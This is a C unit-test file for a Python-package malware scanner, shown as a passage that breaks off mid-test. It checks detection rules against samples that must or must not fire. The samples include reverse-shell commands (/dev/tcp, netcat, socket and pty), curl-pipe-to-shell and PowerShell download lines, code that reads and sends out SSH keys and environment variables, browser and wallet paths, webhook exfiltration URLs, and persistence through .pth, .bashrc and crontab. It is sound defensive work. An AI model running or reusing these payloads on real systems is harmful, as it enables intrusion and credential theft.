/* test_scan.c — unit tests for src/scan/: every shipped rule with samples
 * that must fire and benign look-alikes that must not, the rules-file
 * parser and its errors, overrides, the tree walk (symlinks, fifos,
 * binaries, limits, deduplication), entropy, Python string literals,
 * public IPv4 addresses, typosquatting, and the scan task's escalation. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "support.h"

#include "common/buf.h"
#include "common/jsonutil.h"
#include "common/path.h"
#include "common/xalloc.h"
#include "exec/job.h"
#include "exec/recipe.h"
#include "exec/task.h"
#include "exec/tasks_internal.h"
#include "scan/entropy.h"
#include "scan/ipv4.h"
#include "scan/pylex.h"
#include "scan/rules.h"
#include "scan/scanner.h"
#include "scan/typosquat.h"

#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static pyti_scan_rules *shipped;

static int load_shipped(void **state)
{
    (void)state;
    char *path = path_join(t_source_root(), "data/scan-rules.ini");
    const char *paths[] = {path, NULL};
    pyti_error err;
    shipped = scan_rules_load(paths, NULL, &err);
    if (!shipped)
        fprintf(stderr, "loading %s: %s\n", path, err.msg);
    free(path);
    return shipped ? 0 : -1;
}

static int free_shipped(void **state)
{
    (void)state;
    scan_rules_free(shipped);
    shipped = NULL;
    return 0;
}

/* Scans text as the file rel with rules (shipped if NULL). */
static void scan_text(const pyti_scan_rules *rules, const char *rel, const char *text, size_t len,
                      pyti_findings *out)
{
    pyti_scanner *s = scanner_new(rules ? rules : shipped, NULL);
    scanner_scan_buffer(s, rel, text, len, out);
    scanner_free(s);
}

static const pyti_finding *find(const pyti_findings *f, const char *id)
{
    for (size_t i = 0; i < f->len; i++)
        if (strcmp(f->items[i].id, id) == 0)
            return &f->items[i];
    return NULL;
}

static void print_findings(const char *what, const pyti_findings *f)
{
    for (size_t i = 0; i < f->len; i++)
        fprintf(stderr, "  %s: %s %s %s: %s\n", what, f->items[i].id,
                severity_name(f->items[i].severity), f->items[i].where, f->items[i].message);
}

/* ---- samples for every rule ------------------------------------------------ */

typedef struct sample {
    const char *rule;     /* scan.<rule> must (fires) or must not fire */
    const char *file;
    const char *text;
    bool fires;
} sample;

static const sample samples[] = {
    /* exec of decoded data */
    {"exec-base64", "m.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", true},
    {"exec-base64", "m.py", "import base64 as b\ncode = b.b64decode(PAYLOAD)\nexec(code)\n", true},
    {"exec-base64", "m.py", "eval(compile(base64.b32decode(x), '<s>', 'exec'))\n", true},
    {"exec-base64", "m.py", "import base64\npng = base64.b64decode(ICON)\nopen('i.png', 'wb').write(png)\n", false},
    {"exec-base64", "setup.py", "exec(open('src/pkg/version.py').read())\n", false},
    {"exec-base64", "m.py", "pattern = re.compile(base64.b64decode(x))\n", false},
    {"exec-compressed", "m.py", "import zlib, base64\nexec(zlib.decompress(base64.b64decode(P)))\n", true},
    {"exec-compressed", "m.py", "src = zlib.decompress(blob)\nexec(src)\n", true},
    {"exec-compressed", "m.py", "data = zlib.decompress(raw)\nreturn json.loads(data)\n", false},
    {"exec-marshal", "m.py", "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))\n", true},
    {"exec-marshal", "m.py", "code = marshal.loads(data)\nexec(code, ns)\n", true},
    {"exec-marshal", "m.py", "code = marshal.loads(data)\nreturn code\n", false},
    {"exec-rot13", "m.py", "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n", true},
    {"exec-rot13", "m.py", "print(codecs.decode(s, 'rot13'))\n", false},
    {"rot13-decode", "m.py", "print(codecs.decode(s, 'rot13'))\n", true},
    {"exec-hex", "m.py", "exec(bytes.fromhex('7072696e74283129').decode())\n", true},
    {"exec-hex", "m.py", "s = binascii.unhexlify(h)\nexec(s)\n", true},
    {"exec-hex", "m.py", "key = bytes.fromhex(hexkey)\n", false},
    {"exec-chr-join", "m.py", "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n", true},
    {"exec-chr-join", "m.py", "eval(''.join(map(chr, codes)))\n", true},
    {"exec-chr-join", "m.py", "name = ''.join(chr(ord(c) + 1) for c in s)\n", false},
    {"exec-remote", "m.py", "exec(urllib.request.urlopen('http://x/p.py').read())\n", true},
    {"exec-remote", "m.py", "exec(requests.get(URL).text)\n", true},
    {"exec-remote", "m.py", "r = requests.get(url)\nprint(r.text)\n", false},
    {"import-obfuscated", "m.py", "__import__('os').system('id')\n", true},
    {"import-obfuscated", "m.py", "m = __import__('metsys.so'[::-1])\n", true},
    {"import-obfuscated", "m.py", "f = lambda: __import__('subprocess')\n", true},
    {"import-obfuscated", "m.py", "__import__(chr(111) + chr(115))\n", true},
    {"import-obfuscated", "m.py", "mod = __import__(name, fromlist=['x'])\n", false},
    {"import-obfuscated", "m.py", "__import__('pkg_resources').declare_namespace(__name__)\n", false},
    {"builtins-lookup", "m.py", "getattr(__builtins__, 'exec')(code)\n", true},
    {"builtins-lookup", "m.py", "getattr(builtins, 'print')('x')\n", false},
    /* obfuscation */
    {"pyarmor", "m.py", "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
                        "__pyarmor__(__name__, __file__, b'PYARMOR...')\n", true},
    {"pyarmor", "m.py", "armor = load_armor()\n", false},
    {"bidi-control", "m.py", "access = 'user\xe2\x80\xae \xe2\x81\xa6// admin\xe2\x81\xa9'\n", true},
    {"bidi-control", "m.py", "greeting = 'h\xc3\xa9llo w\xc3\xb6rld'\n", false},
    {"chr-obfuscation", "m.py", "s = ''.join(map(chr, [104, 116, 116, 112, 58, 47, 47, 101, 118, 105, 108, "
                                "46, 99, 111, 109, 47, 120, 46, 112, 121]))\n", true},
    {"chr-obfuscation", "m.py", "letters = ''.join(map(chr, range(65, 91)))\n", false},
    /* build scripts and install hooks */
    {"build-network", "setup.py", "import requests\nfrom setuptools import setup\nsetup()\n", true},
    {"build-network", "setup.py", "urllib.request.urlopen('http://example.invalid/x')\n", true},
    {"build-network", "pkg/client.py", "import requests\n\ndef get(u):\n    return requests.get(u)\n", false},
    {"build-process", "setup.py", "v = subprocess.check_output(['git', 'describe'])\n", true},
    {"build-process-suspicious", "setup.py", "os.system('curl -s http://x.invalid/i | sh')\n", true},
    {"build-process-suspicious", "setup.py", "v = subprocess.check_output(['git', 'describe'])\n", false},
    {"install-hook-process", "setup.py",
     "from setuptools.command.install import install\n"
     "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
     "        os.system('echo hi')\nsetup(cmdclass={'install': PostInstall})\n", true},
    {"install-hook-process", "setup.py",
     "setup(cmdclass={'develop': Dev, 'install': Inst})\nsubprocess.call(['x'])\n", true},
    {"install-hook-process", "tests/test_cli.py",
     "import subprocess\n\ndef test_cli():\n    subprocess.run(['pkg', '--help'], check=True)\n", false},
    {"install-hook-process", "setup.py",
     "class CMakeBuild(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '..'])\n", false},
    {"install-hook-network", "setup.py",
     "class I(install):\n    def run(self):\n        urllib.request.urlopen('http://x.invalid')\n", true},
    {"build-hook-process", "hatch_build.py",
     "class CustomHook(BuildHookInterface):\n    def initialize(self, v, d):\n"
     "        subprocess.run(['npm', 'run', 'build'], check=True)\n", true},
    {"build-hook-network", "hatch_build.py",
     "class CustomHook(BuildHookInterface):\n    def initialize(self, v, d):\n"
     "        urllib.request.urlopen('http://x.invalid/assets.tar')\n", true},
    {"build-hook-network", "pkg/client.py", "def get(u):\n    return urllib.request.urlopen(u)\n", false},
    {"build-credentials", "setup.py", "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", true},
    {"build-credentials", "pkg/config.py", "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", false},
    {"build-env-harvest", "setup.py", "payload = json.dumps(dict(os.environ))\n", true},
    {"build-env-harvest", "setup.py", "debug = os.environ.get('DEBUG')\n", false},
    {"build-ipv4", "setup.py", "HOST = '45.33.32.156'\n", true},
    {"build-ipv4", "setup.py", "HOST = '192.168.1.10'\nversion = '1.2.3.4'\n", false},
    /* persistence */
    {"pth-import", "evil.pth", "import sitecustomize_helper; sitecustomize_helper.hook()\n", true},
    {"pth-import", "paths.pth", "/opt/lib/python\n./src\n# a comment\n", false},
    {"pth-import", "distutils-precedence.pth",
     "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
     "'local'; enabled and __import__('_distutils_hack').add_shim(); \n", false},
    {"pth-import", "zope.interface-5.4.0-py3.9-nspkg.pth",
     "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1)"
     ".f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');"
     "has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', "
     "importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', "
     "[os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));"
     "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n", false},
    {"pth-import", "x.pth",
     "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
     "'local'; enabled and __import__('_distutils_hack').add_shim(); os.system('id')\n", true},
    {"pth-exec", "evil.pth", "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\n", true},
    {"pth-exec", "evil.pth", "import os;os.system('curl x | sh')\n", true},
    {"pth-exec", "ok.pth", "import mypkg_paths\n", false},
    {"pth-write", "setup.py",
     "site = sysconfig.get_paths()['purelib']\nopen(os.path.join(site, 'zz.pth'), 'w').write('import x')\n", true},
    {"autostart-write", "m.py",
     "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python -m x &\\n')\n", true},
    {"autostart-write", "m.py", "os.system('(crontab -l; echo \"@reboot /tmp/x\") | crontab -')\n", true},
    {"autostart-write", "m.py", "print('add this to your ~/.bashrc: eval \"$(x init)\"')\n", false},
    {"autostart-path", "m.py", "print('add this to your ~/.bashrc: eval \"$(x init)\"')\n", true},
    {"windows-run-key", "m.py", "k = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n", true},
    /* credentials */
    {"credential-path", "m.py", "p = os.path.expanduser('~/.aws/credentials')\n", true},
    {"credential-exfil", "m.py",
     "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(U, data=k)\n", true},
    {"credential-exfil", "m.py", "KNOWN = os.path.expanduser('~/.ssh/known_hosts')\n", false},
    {"browser-data", "m.py",
     "p = os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n", true},
    {"browser-data", "m.py", "db = os.path.join(profile, 'cookies.sqlite')\n", true},
    {"browser-data", "m.py", "data = load_login_data(state)\n", false},
    {"discord-token", "m.py", "p = os.path.join(roaming, 'discord', 'Local Storage', 'leveldb')\n", true},
    {"discord-token", "m.py", "p = roaming + '\\\\discordcanary\\\\Local Storage\\\\leveldb'\n", true},
    {"crypto-wallet", "m.py", "w = os.path.join(appdata, 'Exodus', 'exodus.wallet')\n", true},
    {"crypto-wallet", "m.py", "EXT = 'nkbihfbeogaeaoehlefnkodbefgpgknn'\n", true},
    {"crypto-wallet", "m.py", "wallet = Wallet(seed)\n", false},
    {"env-exfil", "m.py", "requests.post(URL, json=dict(os.environ))\n", true},
    {"env-exfil", "m.py",
     "env = os.environ.copy()\nsubprocess.run(cmd, env=env)\nr = requests.get(url)\n", false},
    /* download and execute */
    {"download-exec", "m.py",
     "urllib.request.urlretrieve(u, '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nsubprocess.call(['/tmp/x'])\n", true},
    {"download-exec", "m.py", "r = requests.get(url)\nopen(p, 'wb').write(r.content)\n", false},
    {"pipe-to-shell", "m.py", "os.system('curl -fsSL http://x.invalid/i.sh | bash')\n", true},
    {"pipe-to-shell", "m.py", "os.system('curl -fsSL -o out.json http://x.invalid/a.json')\n", false},
    {"powershell-download", "m.py",
     "os.system(\"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x')\")\n", true},
    {"defender-tamper", "m.py", "os.system('powershell Add-MpPreference -ExclusionPath C:\\\\')\n", true},
    /* reverse shells */
    {"reverse-shell-socket", "m.py",
     "import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((H,P))\n"
     "os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\n"
     "subprocess.call(['/bin/sh','-i'])\n", true},
    {"reverse-shell-socket", "m.py",
     "fd = open(os.devnull)\nos.dup2(fd.fileno(), 0)\n", false},
    {"reverse-shell-pty", "m.py",
     "s = socket.socket()\ns.connect((h, p))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n"
     "pty.spawn('/bin/bash')\n", true},
    {"pty-shell", "m.py", "import pty\npty.spawn('/bin/sh')\n", true},
    {"pty-shell", "m.py", "pty.spawn(argv)\n", false},
    {"dev-tcp-shell", "m.py", "os.system('bash -i >& /dev/tcp/45.33.32.156/4444 0>&1')\n", true},
    {"dev-tcp", "m.py", "cmd = 'exec 3<>/dev/tcp/' + host + '/80'\n", true},
    {"netcat-exec", "m.py", "os.system('nc -e /bin/sh 45.33.32.156 4444')\n", true},
    {"netcat-exec", "m.py", "os.system('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 9 >/tmp/f')\n", true},
    {"netcat-exec", "m.py", "os.system('nc -z localhost 80')\n", false},
    /* network indicators */
    {"webhook-exfil", "m.py",
     "URL = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz_ABCDEF-123'\n", true},
    {"webhook-exfil", "m.py", "T = 'https://api.telegram.org/bot123456789:AAEhBOweik6ad9r_QXMENQjcrGbqCr4K-bs/sendMessage'\n", true},
    {"webhook-exfil", "m.py", "BASE = 'https://discord.com/api/webhooks/{id}/{token}'\n", false},
    {"webhook-mention", "m.py", "BASE = 'https://discord.com/api/webhooks/{id}/{token}'\n", true},
    {"exfil-service", "m.py", "requests.post('https://eo1abcd2.m.pipedream.net', json=d)\n", true},
    {"exfil-service", "m.py", "h = 'x' + '.cvyqa2k0.oast.fun'\n", true},
    {"exfil-service", "m.py", "URL = 'https://webhook.site/0000-1111'\n", true},
    {"tunnel-or-paste-url", "m.py", "C2 = 'https://1234-5-6-7-8.ngrok-free.app/x'\n", true},
    {"tunnel-or-paste-url", "m.py", "exec(get('https://pastebin.com/raw/abcd'))\n", true},
    {"public-ipv4", "m.py", "HOST = '45.33.32.156'\n", true},
    {"public-ipv4", "m.py", "HOST = 'http://45.33.32.156:8080/x'\n", true},
    {"public-ipv4", "m.py", "HOSTS = ['192.168.1.1', '127.0.0.1', '10.0.0.1', '172.20.1.1', '203.0.113.9']\n", false},
    {"public-ipv4", "m.py", "__version__ = '1.2.3.4'\nreq = 'Django>=10.2.30.4'\nrel = 'v12.2.30.40'\n", false},
    {"public-ipv4", "m.py", "__version__ = '12.20.30.40'\nVERSION_INFO = ('12.20.30.41')\n", false},
    {"public-ipv4", "m.py", "# the server at 45.33.32.156 answered\nx = 1\n", false},
    {"public-ipv4", "LICENSE", "Contact 45.33.32.156 for details\n", false},
    {"public-ipv4", "m.py", "OID = '1.3.101.112'\nSAN = '2.5.29.17'\n", false},
    {"public-ipv4", "m.py",
     "DOC = '''This follows section 4.10.22.7 of the HTML specification, which is long enough to "
     "be prose rather than an endpoint; nothing here is an address.'''\n", false},
    /* shellcode */
    {"ctypes-shellcode", "m.py",
     "import ctypes\nptr = ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)\n", true},
    {"ctypes-shellcode", "m.py", "# VirtualAlloc is a Windows API\nx = 1\n", false},
};

static void test_samples(void **state)
{
    (void)state;
    int bad = 0;
    for (size_t i = 0; i < sizeof samples / sizeof *samples; i++) {
        const sample *s = &samples[i];
        assert_non_null(scan_rules_find(shipped, s->rule));
        pyti_findings f = PYTI_FINDINGS_INIT;
        scan_text(NULL, s->file, s->text, strlen(s->text), &f);
        char id[96];
        snprintf(id, sizeof id, "scan.%s", s->rule);
        bool got = find(&f, id) != NULL;
        if (got != s->fires) {
            fprintf(stderr, "sample %zu (%s in %s): expected %s\n%s\n", i, s->rule, s->file,
                    s->fires ? "a hit" : "no hit", s->text);
            print_findings("got", &f);
            bad++;
        }
        findings_free(&f);
    }
    assert_int_equal(bad, 0);
}

/* Every shipped rule has at least one sample that fires (the generated
 * checks, whose samples are below, excepted). */
static void test_every_rule_has_a_sample(void **state)
{
    (void)state;
    static const char *const elsewhere[] = {"long-line", "long-line-exec", "whitespace-padding",
                                            "high-entropy-string", "high-entropy-exec",
                                            "hex-escapes", "hex-escapes-exec", NULL};
    for (size_t i = 0; i < scan_rules_count(shipped); i++) {
        const char *id = scan_rules_get(shipped, i)->id;
        bool found = false;
        for (size_t k = 0; elsewhere[k] && !found; k++)
            found = strcmp(elsewhere[k], id) == 0;
        for (size_t j = 0; j < sizeof samples / sizeof *samples && !found; j++)
            found = samples[j].fires && strcmp(samples[j].rule, id) == 0;
        if (!found)
            fprintf(stderr, "rule %s has no positive sample\n", id);
        assert_true(found);
    }
}

/* Benign look-alikes from the brief give nothing of severity medium or
 * above at all. */
static void test_benign_lookalikes_stay_below_medium(void **state)
{
    (void)state;
    static const struct { const char *file, *text; } benign[] = {
        {"pkg/data.py", "import base64\nICON = base64.b64decode('iVBORw0KGgo=')\n"},
        {"tests/test_run.py", "import subprocess\n\ndef test():\n    subprocess.run(['ls'], check=True)\n"},
        {"paths.pth", "/usr/share/lib\nsrc\n"},
        {"pkg/http.py", "import requests\n\ndef fetch(u):\n    return requests.get(u, timeout=5).json()\n"},
        {"LICENSE", "Copyright (c) 2024. Contact 45.33.32.156 or see http://198.51.100.7/\n"},
        {"pkg/license.py", "# Licensed; mirror at 45.33.32.156\n"},
        {"pkg/version.py", "__version__ = '2.31.0'\nVERSION = (2, 31, 0)\nFULL = '2.31.0.1'\n"},
        {"setup.py", "from setuptools import setup\nsetup(name='x', version='1.0')\n"},
        {"setup.py", "import subprocess\nv = subprocess.check_output(['git', 'describe']).decode()\n"
                     "from setuptools import setup\nsetup(version=v)\n"},
        {"docs/conf.py", "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'x')\n"},
        {"pkg/daemon.py", "import os\nfd = os.open(os.devnull, os.O_RDWR)\nos.dup2(fd, 0)\n"},
    };
    for (size_t i = 0; i < sizeof benign / sizeof *benign; i++) {
        pyti_findings f = PYTI_FINDINGS_INIT;
        scan_text(NULL, benign[i].file, benign[i].text, strlen(benign[i].text), &f);
        int max = findings_max_severity(&f);
        if (max >= PYTI_SEV_MEDIUM)
            print_findings(benign[i].file, &f);
        assert_true(max < PYTI_SEV_MEDIUM);
        findings_free(&f);
    }
}

/* ---- the generated checks -------------------------------------------------- */

static char *repeat_str(const char *s, size_t times)
{
    pyti_buf b = PYTI_BUF_INIT;
    for (size_t i = 0; i < times; i++)
        buf_puts(&b, s);
    return buf_detach(&b);
}

/* Deterministic pseudo-random base64 text of n characters. */
static char *random_b64(size_t n, unsigned seed)
{
    static const char alphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char *s = xmalloc(n + 1);
    unsigned x = seed;
    for (size_t i = 0; i < n; i++) {
        x = x * 1103515245u + 12345u;
        s[i] = alphabet[(x >> 16) % 64];
    }
    s[n] = '\0';
    return s;
}

static void test_long_line(void **state)
{
    (void)state;
    char *body = repeat_str("x", 6000);
    char *text = xasprintf("a = 1\nb = '%s'\n", body);
    pyti_findings f = PYTI_FINDINGS_INIT;
    scan_text(NULL, "m.py", text, strlen(text), &f);
    const pyti_finding *x = find(&f, "scan.long-line");
    assert_non_null(x);
    assert_int_equal(x->severity, PYTI_SEV_LOW);
    assert_string_equal(x->where, "m.py:2");
    assert_non_null(strstr(x->message, "6006 bytes"));
    assert_null(find(&f, "scan.long-line-exec"));
    findings_free(&f);
    free(text);

    text = xasprintf("exec(x)\nb = '%s'\n", body);
    scan_text(NULL, "m.py", text, strlen(text), &f);
    x = find(&f, "scan.long-line-exec");
    assert_non_null(x);
    assert_int_equal(x->severity, PYTI_SEV_MEDIUM);
    findings_free(&f);
    free(text);
    free(body);

    body = repeat_str("y", 4900);
    text = xasprintf("b = '%s'\n", body);
    scan_text(NULL, "m.py", text, strlen(text), &f);
    assert_null(find(&f, "scan.long-line"));
    findings_free(&f);
    /* not Python: not checked */
    free(text);
    text = repeat_str("z", 9000);
    scan_text(NULL, "data.txt", text, strlen(text), &f);
    assert_null(find(&f, "scan.long-line"));
    findings_free(&f);
    free(text);
    free(body);
}

static void test_whitespace_padding(void **state)
{
    (void)state;
    char *pad = repeat_str(" ", 200);
    char *text = xasprintf("x = 1%s;__import__('os').system('id')\n", pad);
    pyti_findings f = PYTI_FINDINGS_INIT;
    scan_text(NULL, "m.py", text, strlen(text), &f);
    assert_non_null(find(&f, "scan.whitespace-padding"));
    findings_free(&f);
    free(text);
    text = xasprintf("x = 1%s# a far comment\n", pad);
    scan_text(NULL, "m.py", text, strlen(text), &f);
    assert_null(find(&f, "scan.whitespace-padding"));
    findings_free(&f);
    free(text);
    free(pad);
}

static void test_high_entropy(void **state)
{
    (void)state;
    char *b64 = random_b64(2000, 7);
    char *text = xasprintf("BLOB = '%s'\n", b64);
    pyti_findings f = PYTI_FINDINGS_INIT;
    scan_text(NULL, "m.py", text, strlen(text), &f);
    const pyti_finding *x = find(&f, "scan.high-entropy-string");
    assert_non_null(x);
    assert_int_equal(x->severity, PYTI_SEV_LOW);
    assert_null(find(&f, "scan.high-entropy-exec"));
    findings_free(&f);
    free(text);

    text = xasprintf("import base64\nBLOB = '%s'\nexec(base64.b64decode(BLOB))\n", b64);
    scan_text(NULL, "m.py", text, strlen(text), &f);
    x = find(&f, "scan.high-entropy-exec");
    assert_non_null(x);
    assert_int_equal(x->severity, PYTI_SEV_HIGH);
    assert_string_equal(x->where, "m.py:2");
    findings_free(&f);
    free(text);

    /* prose, hex and non-ASCII text stay below the threshold */
    char *prose = repeat_str("The quick brown fox jumps over the lazy dog, again and again. ", 40);
    char *hex = repeat_str("0123456789abcdef", 120);
    char *greek = repeat_str("\xce\xb1\xce\xb2\xce\xb3\xce\xb4\xce\xb5\xce\xb6\xce\xb7\xce\xb8"
                             "\xce\xb9\xce\xba\xce\xbb\xce\xbc\xce\xbd\xce\xbe\xce\xbf\xcf\x80"
                             "\xcf\x81\xcf\x83\xcf\x84\xcf\x85\xcf\x86\xcf\x87\xcf\x88\xcf\x89", 30);
    text = xasprintf("A = '''%s'''\nB = '%s'\nC = '%s'\nexec(x)\n", prose, hex, greek);
    scan_text(NULL, "m.py", text, strlen(text), &f);
    assert_null(find(&f, "scan.high-entropy-string"));
    assert_null(find(&f, "scan.high-entropy-exec"));
    findings_free(&f);
    free(text);
    free(prose);
    free(hex);
    free(greek);
    /* in a comment it is not a literal */
    text = xasprintf("# %s\n", b64);
    scan_text(NULL, "m.py", text, strlen(text), &f);
    assert_null(find(&f, "scan.high-entropy-string"));
    findings_free(&f);
    free(text);
    free(b64);
}

static void test_hex_escapes(void **state)
{
    (void)state;
    char *esc = repeat_str("\\x4a", 320);
    char *text = xasprintf("p = b'%s'\n", esc);
    pyti_findings f = PYTI_FINDINGS_INIT;
    scan_text(NULL, "m.py", text, strlen(text), &f);
    assert_non_null(find(&f, "scan.hex-escapes"));
    assert_null(find(&f, "scan.hex-escapes-exec"));
    findings_free(&f);
    free(text);
    free(esc);
    esc = repeat_str("\\x4a", 120);
    text = xasprintf("p = b'%s'\nexec(p)\n", esc);
    scan_text(NULL, "m.py", text, strlen(text), &f);
    assert_null(find(&f, "scan.hex-escapes"));
    assert_non_null(find(&f, "scan.hex-escapes-exec"));
    findings_free(&f);
    free(text);
    free(esc);
    /* test vectors: short runs */
    text = xstrdup("V = b'\\x00\\x01\\x02\\x03\\xff\\xfe'\nexec(code)\n");
    scan_text(NULL, "tests/test_codec.py", text, strlen(text), &f);
    assert_null(find(&f, "scan.hex-escapes-exec"));
    findings_free(&f);
    free(text);
}

/* ---- findings: dedup, where, excerpt -------------------------------------- */

static void test_one_finding_per_rule_per_file(void **state)
{
    (void)state;
    const char *text = "x = 1\n__import__('os').system('a')\n__import__('os').system('b')\n"
                       "__import__('os').system('c')\n";
    pyti_findings f = PYTI_FINDINGS_INIT;
    scan_text(NULL, "pkg/m.py", text, strlen(text), &f);
    size_t n = 0;
    for (size_t i = 0; i < f.len; i++)
        n += strcmp(f.items[i].id, "scan.import-obfuscated") == 0;
    assert_int_equal(n, 1);
    const pyti_finding *x = find(&f, "scan.import-obfuscated");
    assert_string_equal(x->where, "pkg/m.py:2");
    assert_non_null(strstr(x->message, "[3 hits in this file]"));
    assert_string_equal(x->excerpt, "__import__('os').system('a')");
    assert_int_equal(x->severity, PYTI_SEV_HIGH);
    findings_free(&f);
}

static void test_excerpt_is_bounded_and_clean(void **state)
{
    (void)state;
    char *tail = repeat_str("A", 600);
    char *text = xasprintf("__import__('os').system('\x1b[31m\x07%s')\n", tail);
    pyti_findings f = PYTI_FINDINGS_INIT;
    scan_text(NULL, "m.py", text, strlen(text), &f);
    const pyti_finding *x = find(&f, "scan.import-obfuscated");
    assert_non_null(x);
    assert_non_null(x->excerpt);
    assert_true(strlen(x->excerpt) <= 163);
    for (const char *p = x->excerpt; *p; p++)
        assert_true((unsigned char)*p >= 0x20 && *p != 0x7f);
    assert_non_null(strstr(x->excerpt, "..."));
    /* and it survives the JSON round trip */
    json_t *j = findings_to_json(&f);
    pyti_findings back = PYTI_FINDINGS_INIT;
    findings_from_json(&back, j);
    assert_string_equal(find(&back, "scan.import-obfuscated")->excerpt, x->excerpt);
    json_decref(j);
    findings_free(&back);
    findings_free(&f);
    free(text);
    free(tail);
}

/* ---- the rules file ------------------------------------------------------- */

#define RULE_HEAD "[rule a]\nseverity = high\ncategory = t\ndescription = d\n"

static void expect_error(const char *text, const char *want)
{
    pyti_error err;
    pyti_scan_rules *rs = scan_rules_from_string(text, strlen(text), "r.ini", &err);
    if (rs || !strstr(err.msg, want))
        fprintf(stderr, "for:\n%s\nwant '%s', got %s\n", text, want, rs ? "success" : err.msg);
    assert_null(rs);
    assert_non_null(strstr(err.msg, want));
}

static void test_rules_file_errors(void **state)
{
    (void)state;
    expect_error(RULE_HEAD "pattern = x\nfoo = 1\n", "r.ini:6: rule 'a': unknown key 'foo'");
    expect_error("[rule a]\nseverity = severe\n", "r.ini:2: rule 'a': unknown severity 'severe'");
    expect_error("# c\n[rule a]\ncategory = t\ndescription = d\npattern = x\n",
                 "r.ini:2: rule 'a': missing 'severity'");
    expect_error(RULE_HEAD "pattern = (abc\n", "r.ini:5: rule 'a': pattern: missing closing parenthesis");
    expect_error(RULE_HEAD "pattern = a*\n", "r.ini:5: rule 'a': pattern matches the empty string");
    expect_error(RULE_HEAD "pattern = x\n" RULE_HEAD "pattern = y\n",
                 "r.ini:6: rule 'a' defined twice in this file (first at line 1)");
    expect_error(RULE_HEAD "severity = low\npattern = x\n", "r.ini:5: rule 'a': 'severity' given twice");
    expect_error("severity = low\n", "r.ini:1: key 'severity' outside a '[rule <id>]' section");
    expect_error("[rules]\n", "r.ini:1: unknown section '[rules]'");
    expect_error(RULE_HEAD "pattern = x\n  y\n", "r.ini:6: indented line");
    expect_error(RULE_HEAD "pattern = x\ncheck = long-line\n", "a rule has either 'pattern' or 'check'");
    expect_error(RULE_HEAD "check = magic\n", "r.ini:5: rule 'a': unknown check 'magic'");
    expect_error(RULE_HEAD "check = ipv4\nthreshold = 3\n", "'threshold' only applies");
    expect_error(RULE_HEAD "check = entropy\nthreshold = 9\n", "is not a number between 0.1 and 8");
    expect_error(RULE_HEAD "check = entropy\nmin-length = 2\n", "between 16 and");
    expect_error("[rule Bad_Id]\n", "r.ini:1: invalid rule id 'Bad_Id'");
    expect_error(RULE_HEAD "files = @nowhere\npattern = x\n", "r.ini:5: rule 'a': unknown scope '@nowhere'");
    expect_error(RULE_HEAD "trigger = Exec\npattern = x\n", "trigger word 'Exec'");
    expect_error(RULE_HEAD "files = , ,\npattern = x\n", "r.ini:5: rule 'a': 'files' names no glob");
    expect_error(RULE_HEAD "pattern =\n", "r.ini:5: rule 'a': empty value for 'pattern'");
    expect_error(RULE_HEAD "pattern x\n", "r.ini:5: expected 'key = value'");
    expect_error(RULE_HEAD "disabled = maybe\npattern = x\n", "expected yes or no");
    expect_error("[rule a]\nseverity = low\ncategory = t\ndescription = d\n",
                 "r.ini:1: rule 'a': missing 'pattern' or 'check'");
    expect_error(RULE_HEAD "unless = (\npattern = x\n", "r.ini:5: rule 'a': unless:");
    const char nul[] = "[rule a]\nseverity = low\0\n";
    pyti_error err;
    assert_null(scan_rules_from_string(nul, sizeof nul - 1, "r.ini", &err));
    assert_non_null(strstr(err.msg, "r.ini:2: NUL byte"));
    /* a missing required file names it */
    const char *paths[] = {"/nonexistent/scan-rules.ini", NULL};
    assert_null(scan_rules_load(paths, NULL, &err));
    assert_non_null(strstr(err.msg, "/nonexistent/scan-rules.ini"));
}

static void test_rules_file_syntax(void **state)
{
    (void)state;
    /* comments only at line starts; ';' and '#' inside values belong to the
     * pattern; CRLF and a BOM are fine; defaults for files and checks */
    const char *text = "\xef\xbb\xbf; comment\r\n# another\r\n\r\n"
                       "[rule semi]\r\nseverity = low\r\ncategory = t\r\ndescription = d\r\n"
                       "pattern = a;b #c\r\n"
                       "[rule ll]\nseverity = info\ncategory = t\ndescription = d\ncheck = long-line\n";
    pyti_error err;
    pyti_scan_rules *rs = scan_rules_from_string(text, strlen(text), "r.ini", &err);
    assert_non_null(rs);
